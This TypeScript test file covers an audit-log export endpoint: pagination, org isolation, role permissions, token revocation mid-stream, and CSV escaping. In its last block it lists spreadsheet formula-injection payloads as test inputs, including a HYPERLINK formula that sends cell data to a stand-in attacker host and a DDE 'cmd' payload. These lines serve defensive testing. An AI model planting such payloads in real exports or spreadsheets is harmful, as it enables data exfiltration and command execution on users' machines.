import { type AuditView, token } from "@creel/core";
import { newId, tables, withOrg } from "@creel/db";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type FreshDatabase, freshDatabase } from "../../../packages/db/test/database.ts";
import { GET } from "../src/app/api/v1/audit/export/route.ts";
import { linesOf } from "../src/server/export/format.ts";
import { setRuntime } from "../src/server/runtime.ts";
import { EventHub } from "../src/server/sse/event-hub.ts";
import { type Fleet, makeFleet, noWorkers, type Org, tokenWithRole } from "./support/fleet.ts";

let database: FreshDatabase;
let fleet: Fleet;
let ours: Org;
let theirs: Org;
beforeAll(async () => {
  database = await freshDatabase();
  fleet = makeFleet(database.db, noWorkers);
  const { db, jobs, seal, deployment } = fleet.ctx(null);
  setRuntime(Promise.resolve({ db, jobs, seal, deployment, noticeHosts: [], events: new EventHub() }));
  ours = await fleet.found("ours");
  theirs = await fleet.found("theirs");
});
afterAll(() => database.close());

/** Rows as an act leaves them, many at once. */
const fill = (count: number): Promise<unknown> =>
  withOrg(database.db, ours.owner.orgId, (tx) =>
    tx.insert(tables.auditEvents).values(
      Array.from({ length: count }, (_, index) => ({
        orgId: ours.owner.orgId,
        id: newId(new Date()),
        at: new Date(),
        action: "sandbox.exec",
        actorKind: "user",
        actorId: ours.owner.userId,
        actorLabel: ours.email,
        resourceKind: "sandbox",
        resourceId: ours.sandboxId,
        resourceLabel: `row ${index}`,
        changes: {},
        requestId: "a test",
      })),
    ),
  );

const ask = (query: string, apiToken: string): Promise<Response> =>
  GET(
    new Request(`http://127.0.0.1/api/v1/audit/export?${query}`, { headers: { authorization: `Bearer ${apiToken}` } }),
  );
const rowsOf = async (query: string, apiToken = ours.apiToken): Promise<AuditView[]> =>
  (await (await ask(`format=jsonl&${query}`, apiToken)).text())
    .split("\n")
    .filter((line) => line !== "")
    // Guarantee: the export wrote each line from an AuditView.
    .map((line) => JSON.parse(line) as AuditView);

describe("an export of the audit trail", () => {
  it("holds every row once, newest first, past the first page, and none of another org", async () => {
    const made = 1_003;
    await fill(made);
    const rows = await rowsOf("");
    expect(rows.length).toBeGreaterThan(made);
    expect(new Set(rows.map(({ id }) => id)).size).toBe(rows.length);
    expect(rows.map(({ id }) => id)).toEqual(
      rows
        .map(({ id }) => id)
        .sort()
        .reverse(),
    );
    expect(rows.some(({ actor }) => actor.label === theirs.email)).toBe(false);
    expect((await rowsOf("action=org.bootstrap")).map(({ resource }) => resource.label)).toEqual(["ours"]);
    const table = await (await ask("action=org.bootstrap", ours.apiToken)).text();
    expect(table.split("\r\n")[0]).toBe(
      "at,action,actor_kind,actor_id,actor,resource_kind,resource_id,resource,changes,request_id,source,id",
    );
    expect(table.split("\r\n")).toHaveLength(3);
  });

  it("is for whoever may export: an auditor and a security admin may, a reader of the trail may not", async () => {
    const expected = {
      auditor: 200,
      security_admin: 200,
      operator: 404,
      approver: 403,
      developer: 404,
      viewer: 404,
    } as const;
    for (const role of ["auditor", "security_admin", "operator", "approver", "developer", "viewer"] as const)
      expect([role, (await ask("", await tokenWithRole(fleet, ours, role))).status]).toEqual([role, expected[role]]);
    expect((await ask("", "creel_00000000_nonsense")).status).toBe(401);
  });

  it.each(["format=exe", "action=no.such", "limit=1", `actor=${"x".repeat(257)}`])("refuses %s", async (query) => {
    expect((await ask(query, ours.apiToken)).status).toBe(400);
  });

  it("breaks off, and does not end, for a reader who lost the right in the middle of it", async () => {
    const ctx = fleet.ctx(ours.owner);
    const made = await token.create({ ctx, input: { name: "exports", role: "auditor" } });
    const answer = await ask("format=jsonl", made.token);
    const reader = answer.body?.getReader();
    await reader?.read();
    await token.revoke({ ctx, input: { tokenId: made.view.id } });
    const rest = async (): Promise<void> => {
      while (!(await reader?.read())?.done);
    };
    await expect(rest()).rejects.toThrow();
  });
});

describe("a table that a spreadsheet opens", () => {
  const row = (label: string): AuditView => ({
    id: "018f0000-0000-7000-8000-000000000001",
    at: "2026-05-03T10:00:00.000Z",
    action: "sandbox.create",
    actor: { kind: "user", id: "u", label },
    resource: { kind: "sandbox", id: "s", label: "plain" },
    changes: {},
    requestId: "r",
    source: "web",
  });
  it.each(['=HYPERLINK("http://evil.example?"&A1)', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "＝1"])(
    "runs no formula that somebody gave as a name: %j",
    (name) => {
      const text = linesOf("csv", [row(name)]);
      expect(text).toContain(`'${name.replaceAll('"', '""')}`);
      expect(linesOf("jsonl", [row(name)])).toContain(JSON.stringify(name));
    },
  );
  it("keeps a name with commas, quotes and lines in its field", () => {
    expect(linesOf("csv", [row('a,"b"\r\nc')])).toContain('user,u,"a,""b""\r\nc",sandbox');
  });
});
